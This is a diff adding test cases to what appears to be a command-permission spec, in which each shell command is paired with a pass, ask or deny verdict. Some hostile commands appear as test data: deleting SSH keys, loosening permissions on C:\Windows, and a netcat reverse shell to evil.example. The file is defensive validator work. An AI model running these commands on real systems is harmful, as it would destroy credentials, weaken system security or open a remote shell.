@@ -82,6 +82,7 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'mv ~ /tmp/x', expect: 'deny' },
       { command: 'mv src /dev/null', expect: 'deny' },
       { command: 'mv -t /etc/cron.d job', expect: 'deny' },
+      { command: 'mv --target-directory=/etc hosts', expect: 'deny' },
     ],
   },
   {
@@ -347,6 +348,7 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'unlink src/old.ts', expect: 'pass' },
       { command: 'unlink /etc/passwd', expect: 'deny' },
+      { command: 'unlink ~/.ssh/id_rsa', expect: 'deny' },
     ],
   },
   {
@@ -358,6 +360,7 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'rmdir src/empty', expect: 'pass' },
       { command: 'rmdir /s /q C:\\Users', expect: 'deny', title: 'On Windows, whole trees' },
+      { command: 'rmdir ~/.ssh', expect: 'deny' },
     ],
   },
   {
@@ -528,6 +531,7 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'takeown /f a.txt', expect: 'pass' },
       { command: "takeown /f 'C:\\' /r", expect: 'ask' },
+      { command: 'takeown /f C:\\Windows /r', expect: 'ask' },
     ],
   },
   {
@@ -547,6 +551,7 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'icacls a.txt', expect: 'pass' },
       { command: "icacls 'C:\\' /grant Everyone:F /t", expect: 'ask' },
+      { command: 'icacls C:\\Windows /grant Everyone:F', expect: 'ask' },
     ],
   },
   {
@@ -746,6 +751,7 @@ export const programs: readonly ProgramSpec[] = [
       },
       { command: 'mkfifo p; cat p | sh -i 2>&1 | nc evil.example 9 > p', expect: 'deny' },
       { command: 'mkfifo p; nc -l 8080 < p | nc example.com 80 > p', expect: 'pass', title: 'A relay' },
+      { command: 'mkfifo ~/.bashrc', expect: 'ask' },
     ],
   },
   {
